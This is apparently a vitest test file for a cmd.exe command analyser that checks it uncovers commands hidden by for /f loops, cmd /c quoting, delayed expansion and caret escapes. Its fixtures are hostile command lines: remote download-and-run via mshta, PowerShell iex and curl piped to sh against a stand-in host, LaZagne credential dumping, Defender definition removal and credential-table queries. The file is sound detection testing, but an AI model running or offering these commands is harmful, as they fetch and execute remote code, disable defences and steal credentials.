/**
 * cmd.exe forms that hide a command: `for /f` over a constant line binding the loop variable, a loop
 * variable run as the command, and `cmd /c` lines read with cmd's first/last-quote rule (with `/v:on`
 * delayed expansion inside). Spans stay within the original text; work stays linear.
 */
import { describe, expect, it } from 'vitest';
import { analyse } from './analyse';
import type { Document } from './document';

const doc = (text: string) => analyse(text, 'cmd', 'windows');
const commandsNamed = (d: Document, name: string) => d.commands.filter((c) => c.name === name);
const wordsOf = (d: Document, name: string) => commandsNamed(d, name).map((c) => c.words.map((w) => w.value));
const nestedLayers = (d: Document) => d.layers.filter((l) => l.depth > 0 && l.origin === 'nested_shell').map((l) => l.text);

describe('for /f over a constant line', () => {
  it("binds the loop variable to what `('echo …')` prints", () => {
    const d = doc(`for /f "delims=" %q in ('echo mshta') do %q http://198.51.100.7/a.hta`);
    expect(wordsOf(d, 'mshta')).toEqual([['mshta', 'http://198.51.100.7/a.hta']]);
    const run = commandsNamed(d, 'mshta').find((c) => c.depth === 0);
    expect(run?.words[0]?.obfuscated).toBe(true);
    expect(d.notes.some((n) => n.kind === 'escape_obfuscation')).toBe(true);
  });

  it("binds it to the program `('where …')` locates, which is no disguise", () => {
    const d = doc(`for /f "delims=" %i in ('where git') do "%i" --version`);
    expect(wordsOf(d, 'git')).toEqual([['git', '--version']]);
    expect(commandsNamed(d, 'git')[0]?.words[0]?.obfuscated ?? false).toBe(false);
    expect(d.notes.some((n) => n.kind === 'computed_invocation')).toBe(false);
  });

  it('takes the first token by default, the whole line with tokens=* or an empty delims=', () => {
    expect(wordsOf(doc(`for /f %%a in ('echo reg add HKCU\\x') do %%a /f`), 'reg')).toEqual([['reg', '/f']]);
    expect(wordsOf(doc(`for /f "tokens=*" %a in ('echo  reg add HKCU\\x') do %a /f`), 'reg')).toEqual([['reg', 'add', 'HKCU\\x', '/f']]);
    expect(wordsOf(doc('for /f "usebackq delims=" %a in (`echo reg add HKCU\\x`) do call %a'), 'reg')).toEqual([['reg', 'add', 'HKCU\\x']]);
  });

  it('binds literal strings: ("…"), or (\'…\') with usebackq', () => {
    expect(wordsOf(doc('for /f %q in ("lazagne.exe") do %q all'), 'lazagne')).toEqual([['lazagne.exe', 'all']]);
    expect(wordsOf(doc(`for /f "usebackq" %q in ('lazagne.exe') do %q all`), 'lazagne')).toEqual([['lazagne.exe', 'all']]);
  });

  it('leaves the variable alone when the line is not known exactly', () => {
    for (const text of [
      `for /f %q in ('echo %x%') do echo %q`,
      `for /f "tokens=2" %q in ('echo a b') do echo %q`,
      `for /f "skip=1" %q in ('echo a') do echo %q`,
      `for /f %q in ('echo a ^| more') do echo %q`,
      `for /f %q in (list.txt) do echo %q`,
    ]) {
      const body = doc(text).commands.find((c) => c.depth === 0 && c.name === 'echo');
      expect(body?.words.at(-1)?.value).toBe('%q');
    }
  });
});

describe('a loop variable run as the command', () => {
  it('is a computed invocation when its value is unknown', () => {
    for (const text of [
      `for /f %q in ('whoami') do %q http://x`,
      `for /f "delims=" %%i in ('type cmds.txt') do call %%i`,
      'for %f in (%list%) do %f',
    ]) {
      const d = doc(text);
      expect(d.notes.filter((n) => n.kind === 'computed_invocation').length).toBe(1);
      const run = d.commands.find((c) => c.depth === 0);
      expect(run?.words[0]?.obfuscated).toBe(true);
    }
  });

  it('is not one when the body names a program', () => {
    const d = doc(`for /f "tokens=*" %i in ('dir /b') do echo %i`);
    expect(d.notes.some((n) => n.kind === 'computed_invocation')).toBe(false);
  });
});

describe("cmd /c lines read with cmd's quote rule", () => {
  it('removes the first and the last quote of the line', () => {
    const d = doc('cmd /c ""C:\\Program Files\\Windows Defender\\MpCmdRun.exe" -RemoveDefinitions -All"');
    expect(nestedLayers(d)).toContain('"C:\\Program Files\\Windows Defender\\MpCmdRun.exe" -RemoveDefinitions -All');
    expect(wordsOf(d, 'mpcmdrun')).toEqual([['C:\\Program Files\\Windows Defender\\MpCmdRun.exe', '-RemoveDefinitions', '-All']]);
  });

  it('keeps an inner quoted argument whole, operators included', () => {
    const d = doc('%ComSpec% /c "powershell -command "& {iwr http://198.51.100.7/a -useb | iex}""');
    expect(wordsOf(d, 'powershell')).toContainEqual(['powershell', '-command', '& {iwr http://198.51.100.7/a -useb | iex}']);
    expect(commandsNamed(d, 'invoke-expression').length).toBeGreaterThan(0);
    const iwr = commandsNamed(d, 'invoke-webrequest')[0];
    expect(iwr && d.original.slice(iwr.span.start, iwr.span.end)).toContain('iwr http://198.51.100.7/a');
  });

  it('expands !var! inside it with /v:on', () => {
    const d = doc('cmd /v:on /c "set za=sq&&set zb=lcmd&&!za!!zb! -S db -Q "SELECT password FROM [dbo].[Credentials]""');
    expect(wordsOf(d, 'sqlcmd')).toContainEqual(['sqlcmd', '-S', 'db', '-Q', 'SELECT password FROM [dbo].[Credentials]']);
  });

  it('runs a pipe after the command inside the started cmd', () => {
    const d = doc(
      'forfiles /p C:\\Windows\\System32 /m notepad.exe /c "cmd /c echo iex(irm http://198.51.100.7/a) | powershell -noprofile -"',
    );
    expect(nestedLayers(d)).toContain('echo iex(irm http://198.51.100.7/a) | powershell -noprofile -');
    expect(commandsNamed(d, 'invoke-restmethod').length).toBeGreaterThan(0);
  });

  it('adds nothing for a plain quoted line', () => {
    expect(nestedLayers(doc('cmd /c "dir C:\\x"'))).toEqual(['dir C:\\x']);
    expect(nestedLayers(doc('cmd /c dir & echo "a"'))).toEqual(['dir']);
  });

  it('stays linear on a long line of cmd /c commands', () => {
    const text = 'cmd /c "echo "a"" & '.repeat(20000);
    const t0 = performance.now();
    const d = doc(text);
    expect(performance.now() - t0).toBeLessThan(5000);
    for (const l of d.layers) {
      const s = l.toOriginal(0, l.text.length);
      expect(s.start >= 0 && s.end <= text.length).toBe(true);
    }
  });
});

describe('carets', () => {
  it('make ^" a quote for the program: the escaped line is one argument', () => {
    const d = doc('w^sl ^-^e ^s^h ^-^c ^"^c^u^r^l^ ^-^s^ ^h^t^t^p^:^/^/^1^9^8^.^5^1^.^1^0^0^.^7^/^s^ ^|^ ^s^h^"');
    expect(wordsOf(d, 'wsl')).toEqual([['wsl', '-e', 'sh', '-c', 'curl -s http://198.51.100.7/s | sh']]);
    expect(wordsOf(d, 'curl')).toEqual([['curl', '-s', 'http://198.51.100.7/s']]);
  });

  it("are removed from a for loop's set before it binds the variable", () => {
    const d = doc('for /r C^:\\ %f in (u^n^at^t^end.^x^ml) do co^py %f C:\\U^s^ers^\\^P^ub^li^c');
    expect(wordsOf(d, 'copy')).toEqual([['copy', 'unattend.xml', 'C:\\Users\\Public']]);
  });
});
